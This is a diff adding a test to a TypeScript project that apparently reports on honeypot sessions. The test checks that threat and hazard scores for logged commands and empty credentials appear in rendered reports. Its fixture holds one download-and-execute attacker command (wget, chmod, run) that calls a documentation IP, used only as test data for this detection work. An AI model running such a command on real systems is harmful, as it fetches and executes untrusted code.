@@ -3,7 +3,9 @@ import assert from 'node:assert/strict'
 import { describe, test } from 'node:test'
 import { textReader } from '../../src/cli/text-reader.ts'
 import { paintWith } from '../../src/core/terminal.ts'
+import { credentialShown } from '../../src/core/text.ts'
 import { toVisible } from '../../src/neutralize/visible.ts'
+import { count } from '../../src/output/document.ts'
 import { OUTPUTS } from '../../src/output/outputs.ts'
 import { reportDocument } from '../../src/report/document.ts'
 import {
@@ -423,6 +425,30 @@ eachEngine(() => {
       assert.deepEqual(whole[name as keyof Report], value, name)
     assert.equal(brief.novelty, undefined)
     assert.doesNotThrow(() => renderReport(brief, paintWith(false), 80))
+  })
+
+  test('every command shown has its scores, also in a brief report, and what is empty in a credential is named', async () => {
+    await using lab = await loaded(
+      session({ commands: ['wget http://192.0.2.9/x; chmod +x x; ./x'], password: '' }),
+    )
+    const brief = await makeReport(
+      await ReportQueries.open(lab.store.query, { ...MAY_10, sensor: undefined }),
+      ...([MAY_10, undefined, 2, NOW_US, undefined, reader] as const),
+    )
+    const { threatScore, hazardScore } = brief.top.commands[0]!
+    assert.ok(threatScore! > 0)
+    for (const report of [brief, await reportOf(lab)]) {
+      const { text } = renderReport(report, paintWith(false), 80)
+      assert.match(text, new RegExp(` +1 █+ +${threatScore} +${hazardScore} {2}wget `))
+      assert.match(text, /root \/ \(empty\)/)
+      assert.doesNotMatch(text, /1 networks/)
+      const { tables } = reportDocument(report, NOW_US)
+      const commands = tables.find(({ name }) => name === 'commands')!
+      assert.deepEqual(commands.columns.slice(-2), ['threat', 'hazard'])
+      assert.deepEqual(commands.rows[0]!.slice(-2), [count(threatScore!), count(hazardScore!)])
+    }
+    assert.equal(credentialShown(toVisible(' / ')), '(empty) / (empty)')
+    assert.equal(credentialShown(toVisible('a / b')), 'a / b')
   })
 
   test('a store without an event in the period gives a whole report of zeros', async () => {
